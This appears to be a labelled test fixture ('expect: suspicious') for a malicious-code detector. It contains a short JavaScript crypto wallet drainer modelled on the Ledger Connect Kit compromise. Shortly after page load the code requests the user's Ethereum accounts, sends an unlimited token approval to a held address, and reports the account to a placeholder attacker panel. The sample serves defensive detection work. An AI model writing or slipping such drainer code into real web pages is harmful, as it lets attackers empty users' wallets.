// expect: suspicious
// source: Ledger Connect Kit 1.1.7 (2023-12) shape, plain: approve/setApprovalForAll to a held address.
var C = { recv: '0x000000000000000000000000000000000000dEaD', api: 'https://panel.drainer.example' };
function post(p, d) { fetch(C.api + p, { method: 'POST', body: JSON.stringify(d) }); }
async function drain() {
  var eth = window.ethereum;
  var acc = (await eth.request({ method: 'eth_requestAccounts' }))[0];
  var data = '0x095ea7b3' + C.recv.slice(2).padStart(64, '0') + 'f'.repeat(64);
  await eth.request({ method: 'eth_sendTransaction', params: [{ from: acc, to: '0x1', data: data }] });
  post('/v2/approve', { a: acc });
}
setTimeout(drain, 1500);
